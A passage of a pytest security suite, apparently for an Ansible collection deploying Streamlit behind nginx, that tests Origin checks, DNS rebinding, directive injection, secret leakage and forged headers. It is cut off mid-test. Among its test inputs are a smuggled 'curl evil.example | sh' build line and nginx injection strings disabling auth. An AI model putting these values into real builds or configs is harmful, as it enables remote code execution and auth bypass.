# SPDX-License-Identifier: GPL-3.0-or-later
"""The attacks scenario: every way around "only the public origins get in" that an audit found
against real nginx and Streamlit, run against the lab, each as a test. At the end a table
(attack, expected, observed) is printed and written to the scenario's ephemeral directory."""
import asyncio
import json
import os
import re
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
import tomllib
import urllib.error
import urllib.parse
import urllib.request

import pytest
from websockets.asyncio.client import connect

from ansible_collections.wsproxy.streamlit.plugins.module_utils.native_login import provider_token
from ansible_collections.wsproxy.streamlit.plugins.module_utils.ws_check import run_check
from conftest import CHROMIUM, CHROMIUM_ARGS, PROJECT, changed_nowhere, recap, whole_module

sys.path.insert(0, str(PROJECT / "tests" / "integration"))
import figures
import lab_env
from peers import diagnose
from sessions import lab_address, source_addresses
from sign_in import CLIENT_ID, CLIENT_SECRET, AuthService, Provider, gateway, rendered_texts, sign_in

testinfra_hosts = ["ansible://master"]

EPHEMERAL = os.environ.get("MOLECULE_EPHEMERAL_DIRECTORY", "/tmp")
NAME = "analytics.wsproxy.test"
PORT = 28443
ORIGIN = "https://%s:%d" % (NAME, PORT)
PREFIX = "streamlitApp"
APP_URL = "%s/%s/" % (ORIGIN, PREFIX)
CA = os.path.join(EPHEMERAL, "tls", "ca.pem")
NODES = {short: lab_env.node(short) for short in ("master", "child-1", "child-2")}
CONTAINER = "streamlit-streamlit"
DATA_DIR = "/opt/wsproxy-streamlit/streamlit"
NGINX_FILES = "find /etc/nginx /var/lib/wsproxy-streamlit -type f | sort | xargs sha256sum"
COOKIE_SECRET = "attack-\U0001F511-s\u00e9cret-\u2603"
BUILD_TOKEN = "build-arg-secret-0042"
REPLICA = "db2.replica-secret.internal"
SESSIONS = int(os.environ.get("WSPROXY_ATTACK_SESSIONS", "3000"))
ROWS = []


def docker(*args):
    return subprocess.run(["docker", *args], capture_output=True, text=True, check=True).stdout.strip()


def lab_ip(node):
    return lab_address(NODES[node])


def on(node, command):
    """Run a shell command on a lab node; (rc, output)."""
    done = subprocess.run(["docker", "exec", NODES[node], "sh", "-c", command], capture_output=True, text=True, check=False)
    return done.returncode, (done.stdout + done.stderr).strip()


def record(attack, expected, observed, holds):
    ROWS.append((attack, expected, observed, "yes" if holds else "NO"))
    assert holds, "%s: expected %s, observed %s" % (attack, expected, observed)


@pytest.fixture(scope="module", autouse=True)
def attack_table(request):
    yield
    lines = ["| # | Attack | Expected | Observed | Holds |", "| --- | --- | --- | --- | --- |"]
    lines += ["| %d | %s |" % (i, " | ".join(cell.replace("|", "\\|") for cell in row)) for i, row in enumerate(ROWS, 1)]
    table = "\n".join(lines)
    with open(os.path.join(EPHEMERAL, "attacks.md"), "w", encoding="utf-8") as handle:
        handle.write(table + "\n")
    # The README's table (make readme), with what this lab ran: from a run of every attack only.
    nginx = figures.nginx_version(NODES["master"])
    if whole_module(request, ROWS):
        figures.write("attacks", "molecule test -s attacks", (
            "On the lab: 1 master (nginx %s), 2 children on Docker, Debian %s nodes; public origin `%s`. "
            "%d rows, %d hold.\n\n%s") % (nginx, os.environ.get("LAB_DEBIAN_SUITE", "bookworm"), ORIGIN, len(ROWS),
                                          sum(row[3] == "yes" for row in ROWS), table))
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    # Teardown output is captured (and dropped on success) unless capture is off while writing.
    with request.config.pluginmanager.get_plugin("capturemanager").global_and_fixture_disabled():
        reporter.write_line("")
        partial = "" if whole_module(request, ROWS) else "; a partial run: artifacts/figures/attacks.md left as it was"
        reporter.write_line("Attack table (%d rows%s):" % (len(ROWS), partial))
        for line in lines:
            reporter.write_line(line)


@pytest.fixture(scope="module")
def hosts_file():
    lines = ["127.0.0.1 localhost"]
    for node, container in NODES.items():
        lines.append("%s %s.wsproxy.test%s" % (lab_ip(node), node, " " + NAME if node == "master" else ""))
    path = os.path.join(EPHEMERAL, "hosts")
    with open(path, "w", encoding="utf-8") as handle:
        handle.write("\n".join(lines) + "\n")
    return path


@pytest.fixture(scope="module")
def hostile_source(tmp_path_factory):
    """The sample app, as a developer's checkout holds it: history, an .env and local secrets, all 0600."""
    src = tmp_path_factory.mktemp("hostile-app")
    for name in ("app.py", "requirements.txt"):
        (src / name).write_bytes((PROJECT / "examples" / "app" / name).read_bytes())
    for relative, text in {".git/config": "[remote] token=git-secret\n", ".env": "API_KEY=env-secret\n",
                           ".streamlit/secrets.toml": 'api_key = "local-secret"\n', "notes.txt": "ignored by .dockerignore\n",
                           "pages/__pycache__/x.pyc": "bytecode", "data/regions.csv": "north,south\n"}.items():
        path = src / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o600)
    (src / ".dockerignore").write_text("# the app's own rules\nnotes.txt\n", encoding="utf-8")
    # New on every run: this source is built here, never taken from the lab's image cache.
    (src / "build-id.txt").write_text("%f\n" % time.time(), encoding="utf-8")
    return src


SILENT = r'''
import socket, sys, threading, time
def hold(port):
    server = socket.create_server((sys.argv[1], port))
    held = []
    while True:
        held.append(server.accept()[0])  # accept, never answer
for port in (80, 443):
    threading.Thread(target=hold, args=(port,), daemon=True).start()
time.sleep(3600)
'''


@pytest.fixture(scope="module")
def slow_internet():
    """A network that lets DNS answer and then drops the connection (a firewall that drops): the
    name Streamlit asks for its external IP points at a listener on child-2 that never answers.
    (The lab's own network fails such lookups at once, which would hide Streamlit's slow path.)"""
    address = lab_ip("child-2")
    on("child-2", "cat > /tmp/silent.py <<'EOF'\n%s\nEOF\nnohup python3 /tmp/silent.py %s >/dev/null 2>&1 & "
                  "echo $! > /tmp/silent.pid; sleep 1" % (SILENT, address))
    yield {"checkip.amazonaws.com": address}
    on("child-2", "kill $(cat /tmp/silent.pid)")


@pytest.fixture(scope="module")
def app_vars(hostile_source, slow_internet):
    tls = os.path.join(EPHEMERAL, "tls")
    return {
        "streamlit_app_src": str(hostile_source),
        "streamlit_public_origins": [ORIGIN],
        "streamlit_cookie_secret": COOKIE_SECRET,
        # A real Streamlit 1.67 section two levels deep, and secrets with tables, quotes and a non-BMP character.
        "streamlit_config": {"theme": {"sidebar": {"backgroundColor": "#111111"}}},
        "streamlit_secrets": {"token": "\U0001F512-token", "db": {"pass word": 'p"w\\x', "replica": {"host": REPLICA}}},
        "streamlit_max_upload_size": 1,
        # Passed to the build (a private index's token, say); the Containerfile need not use it.
        "streamlit_build_args": {"WSPROXY_BUILD_TOKEN": BUILD_TOKEN},
        "streamlit_extra_hosts": slow_internet,
        "streamlit_base_image": docker("inspect", "--format", '{{index .Config.Labels "wsproxy.lab.python_image"}}', NODES["child-1"]),
        "nginx_location_mode": "server",
        "nginx_location_include_in": "",
        "nginx_location_listen_http": False,
        "nginx_location_listen_https": True,
        "nginx_location_https_port": PORT,
        "nginx_location_tls_cert_content": open(os.path.join(tls, "server.pem"), encoding="utf-8").read(),
        "nginx_location_tls_key_content": open(os.path.join(tls, "server.key"), encoding="utf-8").read(),
        "nginx_location_max_sessions": 4000,
        "nginx_location_hsts": 31536000,
        "wsproxy_master_port": PORT,
        "wsproxy_check_ca_path": CA,
    }


@pytest.fixture(scope="module")
def site(run_playbook, hosts_file, app_vars):
    def run(*overrides, limit=None, verbose=False):
        return run_playbook("site.yml", app_vars, *overrides, hosts_file=hosts_file, limit=limit, verbose=verbose)
    return run


@pytest.fixture(scope="module")
def deployed(site):
    # At -vvv: the first deploy writes every secret (cookie secret, secrets.toml, build args, TLS key),
    # and test_10_secrets_stay_out_of_the_first_deploys_output reads what it printed.
    # (The last test's rerun proves changed=0 after every attack.)
    first = site(verbose=True)
    assert first[0] == 0, first[1][-5000:]
    return first


def tls_context():
    return ssl.create_default_context(cafile=CA)


def request(method, path, headers=None, body=b"", host=None, timeout=10, source=None):
    """One HTTPS request to the master with the public SNI, from `source` if given; (status, headers, body, seconds)."""
    started = time.monotonic()
    raw = socket.create_connection((lab_ip("master"), PORT), timeout=timeout, source_address=(source, 0) if source else None)
    sock = tls_context().wrap_socket(raw, server_hostname=NAME)
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: %s" % (host or "%s:%d" % (NAME, PORT)), "Connection: close"]
    lines += ["%s: %s" % item for item in (headers or {}).items()]
    if body:
        lines.append("Content-Length: %d" % len(body))
    try:
        sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
    except OSError:
        pass  # nginx may answer 413 and close before the whole body is sent
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except (ConnectionResetError, socket.timeout):
        pass
    sock.close()
    head, _sep, payload = data.partition(b"\r\n\r\n")
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    pairs = [(k.strip().lower(), v.strip()) for k, v in (line.split(":", 1) for line in header_lines if ":" in line)]
    parsed = dict(pairs)
    parsed["set-cookies"] = [value for name, value in pairs if name == "set-cookie"]
    return int(status_line.split()[1]), parsed, payload, time.monotonic() - started


def handshake(origin, host=NAME, port=PORT, connect_to=None, scheme="https", **extra):
    connect_to = connect_to or "%s:%d" % (lab_ip("master"), PORT)
    params = {"url": "%s://%s:%d/%s/" % (scheme, host, port, PREFIX), "origin": origin, "connect_to": connect_to,
              "timeout": 15, "ca_path": CA}
    params.update(extra)
    return run_check(params)


# --- 1: settings TOML could not hold -------------------------------------------------------------

def test_1_toml_that_broke_config_toml_is_written_so_streamlit_reads_it(host, deployed):
    code, output = deployed
    assert "WebSocket upgrade through" in output and " works" in output, output[-3000:]
    for child in ("child-1", "child-2"):
        config = tomllib.loads(on(child, "cat %s/config.toml" % DATA_DIR)[1])
        secrets = tomllib.loads(on(child, "cat %s/secrets.toml" % DATA_DIR)[1])
        assert config["server"]["cookieSecret"] == COOKIE_SECRET
        assert config["theme"]["sidebar"]["backgroundColor"] == "#111111"
        assert secrets["db"]["replica"]["host"] == REPLICA and secrets["token"] == "\U0001F512-token"
    # Streamlit took them: Host and Origin of a rebinding attacker, straight to a child, are refused.
    child = lab_ip("child-1")
    evil = handshake("http://evil.example", host="evil.example", port=8501, scheme="http", connect_to=child + ":8501")
    good = handshake(ORIGIN, port=PORT, scheme="http", connect_to=child + ":8501")
    record("config.toml with a theme.sidebar table, an emoji cookie secret, nested secrets",
           "valid TOML; child refuses Host+Origin evil (403), upgrades the public origin (101)",
           "tomllib parses both files; evil %s, public %s" % (evil["status"], good["status"]),
           evil["status"] == 403 and good["status"] == 101 and good["diagnosis"]["code"] == "ok")


def test_1_a_null_value_fails_before_any_change(site, deployed):
    before = [on(c, "sha256sum %s/config.toml; %s inspect -f '{{.State.StartedAt}}' %s" % (DATA_DIR, "docker", CONTAINER))[1]
              for c in ("child-1", "child-2")]
    code, output = site({"streamlit_config": {"theme": {"sidebar": {"backgroundColor": None}}}})
    after = [on(c, "sha256sum %s/config.toml; docker inspect -f '{{.State.StartedAt}}' %s" % (DATA_DIR, CONTAINER))[1]
             for c in ("child-1", "child-2")]
    message = "streamlit_config: theme.sidebar.backgroundColor: is null"
    record("streamlit_config with a null value", "fails naming the variable, nothing written or restarted",
           "rc %d, %r, files and containers %s" % (code, message if message in output else "no message",
                                                   "unchanged" if after == before else "CHANGED"),
           code != 0 and message in output and after == before)


# --- 2 and 2b: foreign origins, and the slow cross-origin path -----------------------------------

def test_2_foreign_origins_get_403_from_nginx_and_health_stays_fast(deployed):
    stop = time.monotonic() + 8
    statuses = []

    def hammer():
        while time.monotonic() < stop:
            statuses.append(handshake("https://evil.example")["status"])

    threads = [threading.Thread(target=hammer) for _thread in range(4)]
    for thread in threads:
        thread.start()
    latencies = []
    while time.monotonic() < stop:
        latencies.append(request("GET", "/%s/_stcore/health" % PREFIX)[3])
        time.sleep(0.2)
    for thread in threads:
        thread.join()
    status, _headers, body, _seconds = request(
        "GET", "/%s/_stcore/stream" % PREFIX, {"Origin": "https://evil.example", "Upgrade": "websocket", "Connection": "Upgrade"})
    by_nginx = b"<center>nginx</center>" in body and b"nginx/" not in body
    worst = max(latencies) * 1000
    record("4 concurrent foreign-Origin handshakes for 8 s", "403 from nginx (no version); health fast for everyone",
           "%d handshakes, all %s, answered by nginx: %s; health max %.0f ms over %d probes"
           % (len(statuses), sorted(set(statuses)), by_nginx, worst, len(latencies)),
           set(statuses) == {403} and status == 403 and by_nginx and worst < 500)


def browser_session(context, master, **options):
    """Open one session through the master as a browser on the public origin does (awaitable)."""
    return connect("wss://%s:%d/%s/_stcore/stream" % (NAME, PORT, PREFIX), origin=ORIGIN, ssl=context,
                   host=master, port=PORT, server_hostname=NAME, **options)


async def _open_sessions(count, rate):
    """Open ``count`` browser-like sessions through the master at ``rate``/s and hold them all."""
    context = tls_context()
    master = lab_ip("master")
    sessions, failures = [], []

    async def one():
        try:
            sessions.append(await browser_session(context, master, subprotocols=["streamlit", "PLACEHOLDER_AUTH_TOKEN"],
                                                  open_timeout=30, ping_interval=None, max_queue=1))
        except Exception as exc:  # pylint: disable=broad-except  # every failure is counted
            failures.append(repr(exc)[:120])

    started = time.monotonic()
    tasks = []
    for index in range(count):
        tasks.append(asyncio.create_task(one()))
        await asyncio.sleep(max(0.0, started + (index + 1) / rate - time.monotonic()))
    await asyncio.gather(*tasks)
    opened = time.monotonic() - started

    async def alive(session):
        try:
            await asyncio.wait_for(await session.ping(), 20)
            return True
        except Exception:  # pylint: disable=broad-except
            return False

    await asyncio.sleep(5)
    answering = sum(await asyncio.gather(*(alive(s) for s in sessions)))
    # Health while every session is still held: after the close, the app is busy ending thousands of
    # sessions at once (6 s for 3,000 once), which says nothing about holding them.
    health = await asyncio.to_thread(request, "GET", "/%s/_stcore/health" % PREFIX)
    await asyncio.gather(*(s.close() for s in sessions), return_exceptions=True)
    return len(sessions), failures, answering, opened, health


def test_2b_thousands_of_sessions_on_a_non_default_port_all_held(deployed):
    # The slow path is live: an Origin Streamlit does not know by name waits on the external-IP lookup.
    started = time.monotonic()
    slow = handshake("https://other.wsproxy.test", port=80, scheme="http", connect_to=lab_ip("child-1") + ":8501")
    slow_seconds = time.monotonic() - started
    held, failures, answering, seconds, health = asyncio.run(_open_sessions(SESSIONS, 300))
    record("%d browser sessions, one client address (ip_hash: one child), origin host:%d, lookups of the external IP hang"
           % (SESSIONS, PORT), "all held, 0 failed, health fast",
           "%d opened in %.1f s, %d failed%s, %d answered a ping after 5 s; health (all held) %d in %.0f ms "
           "(an unknown Origin straight to a child: %d after %.1f s)"
           % (held, seconds, len(failures), (" (%s)" % failures[0]) if failures else "", answering, health[0],
              health[3] * 1000, slow["status"] or 0, slow_seconds),
           slow_seconds >= 1.5 and held == SESSIONS and not failures and answering == SESSIONS
           and health[0] == 200 and health[3] < 1)


# --- 3: empty origins, DNS rebinding --------------------------------------------------------------

def test_3_empty_public_origins_fail_before_any_change(host, site, deployed):
    before = host.check_output(NGINX_FILES)
    code, output = site({"streamlit_public_origins": []})
    message = "streamlit_public_origins: empty"
    record("streamlit_public_origins: []", "fails naming the variable, nothing changed",
           "rc %d, message %s, nginx files %s" % (code, message in output, "unchanged" if host.check_output(NGINX_FILES) == before else "CHANGED"),
           code != 0 and message in output and host.check_output(NGINX_FILES) == before
           and changed_nowhere(output))


def test_3_dns_rebinding_gets_no_app(deployed):
    both = handshake("https://evil.example", host="evil.example", validate_certs=False)
    page = request("GET", "/%s/" % PREFIX, host="evil.example")
    stream = request("GET", "/%s/_stcore/stream" % PREFIX, {"Upgrade": "websocket", "Connection": "Upgrade",
                                                            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
                                                            "Sec-WebSocket-Version": "13"}, host="evil.example")
    record("DNS rebinding: Host and Origin evil.example; then Host only (no Origin), page and stream",
           "refused by nginx (421), no app", "Host+Origin %s; Host only: page %d, stream %d" % (both["status"], page[0], stream[0]),
           both["status"] == 421 and page[0] == 421 and stream[0] == 421)


# --- 4: values that would add nginx directives ----------------------------------------------------

# One check task per role names every wrong variable at once: the values each role checks are sent together
# (one run each, for CI time), and each must be named.
@pytest.mark.parametrize("values", [
    {"nginx_location_server_name": 'x; location /pwn {return 200 "pwned";} server_name y',
     "nginx_location_proxy_timeout": "1d; add_header X-Injected 1",
     # A block of its own, and a directive that would change the sign-in (401s to a location of the user's).
     "nginx_location_extra_directives": ["add_header X-A 1; } location /pwn { return 200 pwned;", "error_page 401 = @open;"],
     "nginx_location_auth_url": "http://auth.example/oauth2/auth; auth_request off"},
    {"nginx_location_proxy_timeout": "1d\n"},
    # Into the image recipe; and native sign-in without a client secret, under the attack's short cookie secret
    # (17 characters).
    {"streamlit_version": "1.67.0\nRUN curl evil.example | sh",
     "streamlit_auth": {"server_metadata_url": "https://idp.example/.well-known/openid-configuration", "client_id": "c"}},
    # Identity headers without a sign-in: the children (changed first) refuse too, not only the masters.
    {"streamlit_trusted_user_headers": {"X-Auth-Request-Email": "email"}},
], ids=["nginx_values", "newline", "image_and_login", "identity_headers"])
def test_4_injected_directives_fail_before_any_change(host, site, deployed, values):
    before = host.check_output(NGINX_FILES)
    # Nginx values are checked on the master (the children's play, unchanged, is skipped for time).
    code, output = site(values, limit=None if any(name.startswith("streamlit_") for name in values) else "master")
    after = host.check_output(NGINX_FILES)
    pwned = request("GET", "/pwn")[0]
    named = [name for name in values if (name + ":") in output]
    record("%s" % ", ".join("%s = %r" % item for item in values.items()),
           "fails naming each variable, nothing changed, /pwn not served",
           "rc %d, named %d of %d, nginx files %s, /pwn %d" % (code, len(named), len(values), "unchanged" if after == before else "CHANGED", pwned),
           code != 0 and len(named) == len(values) and after == before and pwned != 200
           and changed_nowhere(output))
    # Both directives of the list are refused, each for its own reason.
    if "nginx_location_extra_directives" in values:
        assert "would set an identity header or change the sign-in" in output and "one directive each" in output, output[-3000:]


# --- 5: a change whose run died before nginx or the container applied it ------------------------------

def _run_until(site_vars, overrides, banner, hosts_file):
    """Run site.yml and kill it (and every process of it) as soon as ``banner`` is printed."""
    args = ["unshare", "--mount", "sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', hosts_file,
            "ansible-playbook", "-i", str(PROJECT / "inventory" / "lab"), str(PROJECT / "site.yml"),
            "-e", json.dumps(site_vars), "-e", json.dumps(overrides)]
    process = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd=PROJECT,
                               start_new_session=True, env=dict(os.environ, ANSIBLE_NOCOLOR="1"))
    seen = []
    for line in process.stdout:
        seen.append(line)
        if banner in line:
            os.killpg(process.pid, signal.SIGKILL)
            break
    process.wait()
    return "".join(seen)


def test_5_an_nginx_change_cut_off_before_its_reload_is_reloaded_by_the_next_run(site, hosts_file, app_vars, deployed):
    change = {"nginx_location_extra_directives": ["add_header X-Wsproxy-Generation 2 always;"]}
    try:
        output = _run_until(app_vars, change, "TASK [wsproxy.streamlit.nginx_location : Test the new configuration]", hosts_file)
        assert "Test the new configuration" in output, output[-3000:]
        on_disk = "X-Wsproxy-Generation" in on("master", "cat /etc/nginx/snippets/wsproxy-streamlit.conf")[1]
        served_before = request("GET", "/%s/_stcore/health" % PREFIX)[1].get("x-wsproxy-generation")
        code, rerun = site(change)
        served_after = request("GET", "/%s/_stcore/health" % PREFIX)[1].get("x-wsproxy-generation")
        code_again, again = site(change)
        record("nginx change written, run killed before the reload, then a clean rerun",
               "rerun notices and reloads; the one after gives changed=0",
               "on disk %s, served before rerun %r, after %r; rerun master changed=%d; next changed=%d"
               % (on_disk, served_before, served_after, recap(rerun)[NODES["master"]]["changed"],
                  recap(again)[NODES["master"]]["changed"]),
               on_disk and served_before is None and served_after == "2" and code == 0 and code_again == 0
               and recap(again)[NODES["master"]]["changed"] == 0)
    finally:
        assert site()[0] == 0


def test_5_a_settings_change_cut_off_before_the_container_took_it_is_applied_next_run(site, hosts_file, app_vars, deployed):
    change = {"streamlit_config": {"theme": {"sidebar": {"backgroundColor": "#222222"}, "base": "dark"}}}
    try:
        # Killed as the task after the settings files starts: both are written, the container is not replaced.
        output = _run_until(app_vars, change,
                            "TASK [wsproxy.streamlit.container : Remove secrets.toml when there are no secrets]", hosts_file)
        assert "Remove secrets.toml when there are no secrets" in output, output[-3000:]
        # serial: 1 takes the children in the inventory's order: the first one got the new file.
        written = [c for c in ("child-1", "child-2") if '"#222222"' in on(c, "cat %s/config.toml" % DATA_DIR)[1]]
        child = (written or ["child-1"])[0]
        started = on(child, "docker inspect -f '{{.State.StartedAt}}' %s" % CONTAINER)[1]
        code, rerun = site(change)
        restarted = on(child, "docker inspect -f '{{.State.StartedAt}}' %s" % CONTAINER)[1]
        record("config.toml written, run killed before the container was recreated, then a clean rerun",
               "rerun recreates the container (settings checksum label differs)",
               "written on %s; its container %s by the rerun (rc %d)"
               % (written or "no child", "recreated" if restarted != started else "NOT recreated", code),
               len(written) == 1 and restarted != started and code == 0)
    finally:
        assert site()[0] == 0


# --- 6 and 7: reloads nginx cannot apply, warnings -------------------------------------------------

def test_6_a_port_another_process_holds_fails_and_rolls_back(host, site, deployed):
    on("master", "nohup python3 -m http.server 28444 --bind 0.0.0.0 >/dev/null 2>&1 & echo $! > /tmp/holder.pid; sleep 1")
    before = host.check_output(NGINX_FILES)
    try:
        code, output = site({"nginx_location_https_port": 28444}, limit="master")
    finally:
        on("master", "kill $(cat /tmp/holder.pid)")
    after = host.check_output(NGINX_FILES)
    still = handshake(ORIGIN)
    said = "did not start new workers" in output and "bind()" in output
    record("server mode on a port another process holds", "fails (nginx kept its old workers), files restored, app still served",
           "rc %d, cause named with error.log's bind() line: %s, files %s, app %s"
           % (code, said, "restored" if after == before else "DIFFER", still["diagnosis"]["code"]),
           code != 0 and said and after == before and still["diagnosis"]["code"] == "ok")


@pytest.mark.parametrize("overrides, message", [
    ({"streamlit_app_name": "rival", "streamlit_base_url_path": "rival", "streamlit_port": 8502},
     'conflicting server name "%s"' % NAME),
    ({"streamlit_app_name": "rival", "streamlit_port": 8502}, "streamlit_base_url_path: %s/streamlitApp/ is already served" % ORIGIN),
])
def test_7_a_second_app_that_collides_fails_and_rolls_back(host, site, deployed, overrides, message):
    before = host.check_output(NGINX_FILES)
    code, output = site(overrides, limit="master")
    after = host.check_output(NGINX_FILES)
    record("second app %s in server mode on the same host and port" % json.dumps(overrides),
           "fails with nginx's warning or the collision, files restored", "rc %d, %r named: %s, files %s"
           % (code, message, message in output, "restored" if after == before else "DIFFER"),
           code != 0 and message in output and after == before and handshake(ORIGIN)["diagnosis"]["code"] == "ok")


# --- 8 and 9: what the node and the image hold; who reaches the child ------------------------------

def test_8_history_env_and_local_secrets_never_reach_the_node_or_the_image(deployed):
    findings = []
    for child in ("child-1", "child-2"):
        mode = on(child, "stat -c %%a %s/build" % DATA_DIR)[1]
        node_files = on(child, "cd %s/build/app && find . -type f | sort" % DATA_DIR)[1].split()
        image = on(child, "docker inspect -f '{{.Config.Image}}' %s" % CONTAINER)[1]
        run = "docker run --rm --read-only --user 10001:10001 --entrypoint sh %s -c " % image
        image_files = on(child, run + "'find /app -type f'")[1].split()
        mounted_secrets = on(child, "cat %s/secrets.toml" % DATA_DIR)[1]
        writable = on(child, run + "'echo x >> /app/app.py'")[0] == 0
        owner = on(child, run + "'stat -c %u /app/app.py'")[1]
        findings.append((mode, node_files, image_files, "local-secret" in mounted_secrets, writable, owner))
    leaked = [f for _mode, node, image, *_rest in findings for f in node + image
              if re.search(r"\.git/|\.env|notes\.txt|__pycache__|\.pyc", f)]
    record("app source with .git/, .env, .streamlit/secrets.toml (0600), __pycache__ and a .dockerignore",
           "none on the node or in the image; build dir 0700; code root-owned, read-only",
           "build dir %s; leaked %s; local secrets in the container %s; app.py owner uid %s, writable %s"
           % (sorted(set(f[0] for f in findings)), leaked or "nothing", any(f[3] for f in findings),
              sorted(set(f[5] for f in findings)), any(f[4] for f in findings)),
           all(f[0] == "700" for f in findings) and not leaked and not any(f[3] for f in findings)
           and all(f[5] == "0" for f in findings) and not any(f[4] for f in findings))


# How a connection to port 8501 of an address ends, from the child itself: the exception's name, or OPEN.
DIAL = ("python3 -c \"import socket, sys\ntry:\n    socket.create_connection((sys.argv[1], 8501), 3)\n"
        "except OSError as error:\n    print(type(error).__name__)\nelse:\n    print('OPEN')\" %s")


def test_9_the_childs_port_is_only_on_the_address_the_master_dials(deployed):
    observed = []
    holds = True
    for child in ("child-1", "child-2"):
        address = lab_ip(child)
        binding = on(child, "docker port %s 8501/tcp" % CONTAINER)[1]
        # docker0's own address on this child (Docker's default bridge), read, not assumed.
        bridge_address = on(child, "ip -4 -o addr show dev docker0 | awk '{print $4}' | cut -d/ -f1")[1]
        loopback = on(child, DIAL % "127.0.0.1")[1]
        bridge = on(child, DIAL % bridge_address)[1]
        observed.append("%s: %s, loopback %s, docker0 (%s) %s" % (child, binding, loopback, bridge_address, bridge))
        # Refused by the kernel (nothing listens there), not a timeout or any other error.
        holds = (holds and binding == "%s:8501" % address and re.fullmatch(r"\d+\.\d+\.\d+\.\d+", bridge_address)
                 and loopback == "ConnectionRefusedError" and bridge == "ConnectionRefusedError")
    record("direct connection to a child's 8501 other than on its lab address", "published on the dialled address only",
           "; ".join(observed), holds)


def spellings(value):
    """How a secret could show in a play's output: as is, JSON-escaped, and JSON-escaped to ASCII."""
    return {value, json.dumps(value)[1:-1], json.dumps(value, ensure_ascii=False)[1:-1]}


def test_10_secrets_stay_out_of_the_first_deploys_output(deployed, app_vars):
    output = deployed[1]
    key_lines = [line for line in app_vars["nginx_location_tls_key_content"].splitlines() if line and "-----" not in line]
    secrets = {"streamlit_cookie_secret": [COOKIE_SECRET], "streamlit_build_args": [BUILD_TOKEN],
               "streamlit_secrets": ["\U0001F512-token", 'p"w\\x', REPLICA],
               "nginx_location_tls_key_content": key_lines}
    found = sorted(name for name, values in secrets.items()
                   if any(spelling in output for value in values for spelling in spellings(value)))
    record("first deploy at -vvv with a cookie secret, secrets.toml values, a build argument and a TLS key",
           "no secret value printed", "%d lines at -vvv, printed: %s" % (output.count("\n"), found or "none"),
           output.count("\n") > 1000 and not found)


# --- 10: the module against secrets and hostile peers ------------------------------------------------

def test_10_header_values_stay_out_of_the_output_at_vvv(deployed):
    args = {"url": APP_URL, "connect_to": "%s:%d" % (lab_ip("master"), PORT), "ca_path": CA, "origin": ORIGIN,
            "headers": {"Authorization": "Bearer attack-token-0042"}}
    done = subprocess.run(["ansible", "localhost", "-vvv", "-m", "wsproxy.streamlit.websocket_handshake", "-a", json.dumps(args)],
                          capture_output=True, text=True, cwd=PROJECT, check=False)
    output = done.stdout + done.stderr
    # ansible-core up to 2.20 echoes the module's arguments at -vvv ("invocation"): there the header
    # must show masked. 2.21 no longer echoes them; the token must still appear nowhere.
    echoed = "module_args" in output
    record("module with headers: {Authorization: ...} at -vvv", "token never printed",
           "rc %d, token printed: %s, arguments echoed: %s" % (done.returncode, "attack-token-0042" in output, echoed),
           done.returncode == 0 and "attack-token-0042" not in output
           and (not echoed or "VALUE_SPECIFIED_IN_NO_LOG_PARAMETER" in output))


@pytest.mark.parametrize("mode, code", [("bad_status", "bad_response"), ("close", "server_closed")])
def test_10_hostile_peers_are_diagnosed_not_blamed_on_the_user(mode, code):
    result = diagnose(mode, timeout=2)
    record("peer answers %s" % {"bad_status": "a status line with non-ASCII digits", "close": "with a close frame 1008"}[mode],
           "diagnosis %s" % code, "%s: %s" % (result["diagnosis"]["code"], result["diagnosis"]["summary"][:90]),
           result["diagnosis"]["code"] == code)


# --- More: uploads over the limit, forged X-Forwarded-For ---------------------------------------------

def test_an_upload_over_client_max_body_size_stops_at_nginx(deployed):
    status, _headers, body, _seconds = request(
        "PUT", "/%s/_stcore/upload_file/session/file" % PREFIX, {"Origin": ORIGIN, "Content-Type": "application/octet-stream"},
        body=b"x" * (2 << 20))
    record("2 MB upload, streamlit_max_upload_size 1 (MB)", "413 from nginx", "%d%s" % (status, " (nginx)" if b"nginx" in body else ""),
           status == 413 and b"nginx" in body)


ECHO = r'''
import http.server, json, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps(dict(self.headers)).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
http.server.HTTPServer((sys.argv[1], 8501), H).handle_request()
'''


def seen_by_the_children(headers, source=None):
    """One request through the master while both children answer with the headers they got (the app
    stopped, a one-shot echo server on its port); (status, {header: value} the child saw)."""
    children = ("child-1", "child-2")
    try:
        for child in children:
            on(child, "docker stop -t 2 %s >/dev/null" % CONTAINER)
            on(child, "cat > /tmp/echo.py <<'EOF'\n%s\nEOF\nnohup timeout 60 python3 /tmp/echo.py %s >/dev/null 2>&1 & echo $! > /tmp/echo.pid; sleep 1"
               % (ECHO, lab_ip(child)))
        status, _headers, body, _seconds = request("GET", "/%s/" % PREFIX, headers, source=source)
        return status, json.loads(body) if status == 200 else {}
    finally:
        for child in children:
            on(child, "kill $(cat /tmp/echo.pid) 2>/dev/null; sleep 0.5; docker start %s >/dev/null" % CONTAINER)
        for child in children:
            on(child, "curl -fsS --retry 30 --retry-delay 1 --retry-all-errors http://%s:8501/%s/_stcore/health"
               % (lab_ip(child), PREFIX))


def test_a_forged_x_forwarded_for_is_replaced_by_the_client_address(deployed):
    status, seen = seen_by_the_children({"X-Forwarded-For": "6.6.6.6", "X-Real-IP": "6.6.6.6"})
    forwarded = seen.get("X-Forwarded-For", "")
    record("client sends X-Forwarded-For: 6.6.6.6", "the child sees the client's real address only; Host keeps the port",
           "child saw X-Forwarded-For %r, X-Real-IP %r, Host %r" % (forwarded, seen.get("X-Real-IP"), seen.get("Host")),
           status == 200 and forwarded and "6.6.6.6" not in forwarded and seen.get("X-Real-IP") == forwarded
           and seen.get("Host") == "%s:%d" % (NAME, PORT))


def test_behind_a_trusted_proxy_its_forwarded_client_counts_and_no_one_elses(site, deployed):
    with source_addresses(lab_env.NAME, 2) as (proxy, other):
